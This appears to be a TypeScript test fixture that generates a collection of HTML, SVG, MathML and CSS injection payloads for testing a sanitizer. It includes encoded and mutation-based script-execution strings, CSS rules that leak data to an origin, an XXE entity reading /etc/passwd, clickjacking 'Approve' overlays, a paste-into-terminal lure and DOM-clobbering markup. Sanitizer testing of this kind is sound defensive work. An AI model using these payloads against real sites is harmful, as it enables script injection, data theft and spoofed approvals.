const PWN = 'window.__pwn=1'

/** Markup that acts once it is part of a page, each in its own way: none of these is among `fetching` and `RUNNING`. */
export function hostileMarkup(origin: string): string[] {
  return [...svgAndMath(origin), ...hidden(), ...styles(origin), ...frames(origin), ...clobbering(), ...handlers()]
}

function svgAndMath(origin: string): string[] {
  return [
    `<svg><a xlink:href="javascript:${PWN}"><text y="20">x</text></a></svg>`,
    `<svg><a><animate attributeName="href" values="javascript:${PWN}"/><text>x</text></a></svg>`,
    `<svg><set attributeName="onmouseover" to="${PWN}"/><rect width="9" height="9"/></svg>`,
    `<svg><use href="data:image/svg+xml,&lt;svg id='x' onload='${PWN}'&gt;#x"/></svg>`,
    `<svg><handler type="text/javascript" ev:event="load">${PWN}</handler></svg>`,
    `<svg><discard onbegin="${PWN}"/><animatetransform onbegin="${PWN}"/></svg>`,
    `<svg><filter><feImage href="${origin}/feimage"/></filter></svg>`,
    `<svg><style>@import "${origin}/svg-import";</style></svg>`,
    `<svg><title><![CDATA[</title><script>${PWN}</script>]]></svg>`,
    `<svg><desc><svg><script>${PWN}</script></svg></desc></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${PWN}</h:script></svg>`,
    `<math href="javascript:${PWN}">x</math>`,
    `<math><maction actiontype="statusline#http://x.test" xlink:href="javascript:${PWN}">x</maction></math>`,
    `<math><annotation-xml encoding="text/html"><img src=x: onerror="${PWN}"></annotation-xml></math>`,
    `<math><mi//xlink:href="data:x,<script>${PWN}</script>">x`,
    `<math><mtext><style><img src=x: onerror="${PWN}"></style></mtext></math>`,
    `<math><semantics><mi>x</mi><mglyph src="${origin}/mglyph"></mglyph></semantics></math>`,
  ]
}

function hidden(): string[] {
  return [
    `<img/src/onerror=${PWN}>`,
    `<img\nsrc\n=\nx:\nonerror\n=\n"${PWN}">`,
    `<img\u000csrc=x:\u000conerror=${PWN}>`,
    `<img src=x: onerror=&#x77;indow.__pwn=1>`,
    `<img src=x: onerror="\\u0077indow.__pwn=1">`,
    `<img src=x: onerror\u0000="${PWN}">`,
    `<\u0000script>${PWN}</script>`,
    `<scr\u200bipt>${PWN}</script>`,
    `<ScRiPt >${PWN}</sCrIpT >`,
    `<scr<script>ipt>${PWN}</scr</script>ipt>`,
    `<<script>${PWN}//<</script>`,
    `<script/x>${PWN}</script/x>`,
    `<script\t\n>${PWN}</script\t\n>`,
    `\uff1cscript\uff1e${PWN}\uff1c/script\uff1e`,
    `\u2039script\u203a${PWN}\u2039/script\u203a`,
    `%3Cscript%3E${PWN}%3C/script%3E`,
    `%253Cimg%2520src%253Dx%2520onerror%253D${PWN}%253E`,
    `\\x3cscript\\x3e${PWN}\\x3c/script\\x3e`,
    `\\u003cimg src=x: onerror=${PWN}\\u003e`,
    `&lt;script&gt;${PWN}&lt;/script&gt;`,
    `&amp;lt;img src=x: onerror=${PWN}&amp;gt;`,
    `&#0000060script&#0000062${PWN}&#0000060/script&#0000062`,
    `&LT;svg onload=${PWN}&GT;`,
    `+ADw-script+AD4-${PWN}+ADw-/script+AD4-`,
    `<!--><img src=x: onerror=${PWN}>-->`,
    `<!--!><img src=x: onerror=${PWN}>`,
    `<![endif]--><script>${PWN}</script><!--[if IE]>`,
    `<?xml-stylesheet type="text/xsl" href="javascript:${PWN}"?>`,
    `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
    `</title></textarea></style></noscript></script><img src=x: onerror=${PWN}>`,
    `<xmp><p title="</xmp><img src=x: onerror=${PWN}>">`,
    `<listing>&lt;img src=x: onerror=${PWN}&gt;</listing><plaintext>`,
    `<select><template><img src=x: onerror=${PWN}></template></select>`,
    `<table><td><form><table><img src=x: onerror=${PWN}>`,
    `<p is="x-evil" is-evil><x-evil onclick=${PWN}>`,
  ]
}

function styles(origin: string): string[] {
  return [
    `<style>input[value^="a"]{background:url(${origin}/css-a)}</style>`,
    `<style>@media print{*{background:url(${origin}/print)}}</style>`,
    `<style>@font-face{font-family:x;src:local("x"),url(${origin}/face);unicode-range:U+41}</style>`,
    `<style>:root{--x:url(${origin}/var)}*{content:var(--x);cursor:url(${origin}/cursor),auto}</style>`,
    `<style>*{display:none!important}body::before{content:"Press Ctrl+V in the terminal"}</style>`,
    `<link rel=stylesheet href="data:text/css,*{background:url(${origin}/data-css)}">`,
    `<div style="position:fixed;inset:0;z-index:99999;background:red">Approve</div>`,
    `<div style="width:expression(${PWN});-moz-binding:url(${origin}/xbl);behavior:url(${origin}/htc)">x</div>`,
    `<p style="list-style:url(${origin}/list);border-image:url(${origin}/border);mask:url(${origin}/mask)">x</p>`,
    `<x style="background-image:image-set(url(${origin}/set) 1x)">x</x>`,
  ]
}

function frames(origin: string): string[] {
  return [
    `<iframe srcdoc="&lt;script&gt;parent.__pwn=1&lt;/script&gt;"></iframe>`,
    `<iframe src="data:text/html,<script>parent.__pwn=1</script>" sandbox="allow-scripts allow-top-navigation"></iframe>`,
    `<iframe src="app://atrium/index.html"></iframe>`,
    `<iframe src="blob:app://atrium/0" onload="${PWN}"></iframe>`,
    `<frameset><frame src="${origin}/frame"></frameset>`,
    `<object type="text/html" data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd249MTwvc2NyaXB0Pg=="></object>`,
    `<object classid="clsid:0"><param name="src" value="${origin}/param"></object>`,
    `<embed src="javascript:${PWN}" type="application/pdf">`,
    `<applet code="x" archive="${origin}/applet"></applet>`,
    `<portal src="${origin}/portal"></portal><fencedframe config="${origin}/fenced"></fencedframe>`,
    `<meta http-equiv="refresh" content="0;url=javascript:${PWN}">`,
    `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${PWN}</script>">`,
    `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' 'unsafe-eval'">`,
    `<meta http-equiv="set-cookie" content="a=1"><meta name="referrer" content="unsafe-url">`,
    `<base href="javascript:/"><base target="_top"><a href="x">x</a>`,
    `<form action="javascript:${PWN}"><button>Send</button></form>`,
    `<form id="f"></form><button form="f" formaction="javascript:${PWN}" formmethod="dialog">x</button>`,
    `<form method="post" action="${origin}/form" target="_blank"><input name="key" autofocus><input type=submit></form>`,
    `<isindex action="javascript:${PWN}" type="image">`,
    `<a href="${origin}/top" target="_top" rel="opener" download="x.exe">x</a>`,
    `<a href="#" attributionsrc="${origin}/attribution" ping="${origin}/ping2">x</a>`,
    `<img src="${origin}/1" srcset="${origin}/2 2x" loading="eager" crossorigin="use-credentials">`,
    `<img longdesc="${origin}/long" dynsrc="${origin}/dyn" lowsrc="${origin}/low">`,
    `<script type="module">import("${origin}/module")</script>`,
    `<script type="importmap">{"imports":{"x":"${origin}/map"}}</script>`,
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${origin}/spec"]}]}</script>`,
    `<link rel="dns-prefetch" href="${origin}/dns"><link rel="manifest" href="${origin}/manifest">`,
    `<link rel="import" href="${origin}/import"><link rel="prerender" href="${origin}/prerender">`,
    `<html manifest="${origin}/appcache"><head profile="${origin}/profile">`,
    `<blockquote cite="${origin}/cite"><del cite="${origin}/del">x</del></blockquote>`,
  ]
}

function clobbering(): string[] {
  return [
    `<a id="bridge"></a><a id="bridge" name="call" href="javascript:${PWN}"></a>`,
    `<form id="root"><input name="attributes"><input name="children"><input name="innerHTML"></form>`,
    `<img name="getElementById"><img name="querySelector"><img name="body"><img name="cookie">`,
    `<iframe name="opener" srcdoc="<a id=__proto__>"></iframe>`,
    `<form id="__proto__"><output name="constructor">x</output></form>`,
    `<form name="location"><input name="href" value="${PWN}"></form>`,
    `<div id="composer-mentions"></div><div data-testid="approval-card"><button>Approve</button></div>`,
    `<template shadowrootmode="open"><slot onslotchange="${PWN}"></slot></template>`,
    `<dialog open id="d"><form method="dialog"><button autofocus>Approve</button></form></dialog>`,
    `<button popovertarget="p">x</button><div id="p" popover onbeforetoggle="${PWN}">x</div>`,
    `<div contenteditable autofocus onfocus="${PWN}" tabindex="1" accesskey="a">x</div>`,
  ]
}

function handlers(): string[] {
  return [
    `<div onpointerrawupdate="${PWN}" onwheel="${PWN}" onscrollend="${PWN}">x</div>`,
    `<div style="transition:outline 1s" ontransitionend="${PWN}" ontransitionrun="${PWN}">x</div>`,
    `<body onpageshow="${PWN}" onhashchange="${PWN}" onmessage="${PWN}" onbeforeprint="${PWN}" onunhandledrejection="${PWN}">`,
    `<video onloadstart="${PWN}" oncanplay="${PWN}"><source src="x:"></video>`,
    `<audio src="x:" onerror="${PWN}" oncuechange="${PWN}" controls></audio>`,
    `<input type="search" onsearch="${PWN}" oninvalid="${PWN}" required><input type="image" src="x:" onerror="${PWN}">`,
    `<textarea onselectionchange="${PWN}" autofocus onfocus="${PWN}"></textarea>`,
    `<keygen autofocus onfocus="${PWN}"><bgsound src="javascript:${PWN}"><layer src="x:" onload="${PWN}"></layer>`,
    `<details open ontoggle="${PWN}"><summary>x</summary></details><progress onanimationend="${PWN}">`,
    `<object data="x:" onerror="${PWN}"></object><link rel=stylesheet href="x:" onerror="${PWN}">`,
  ]
}
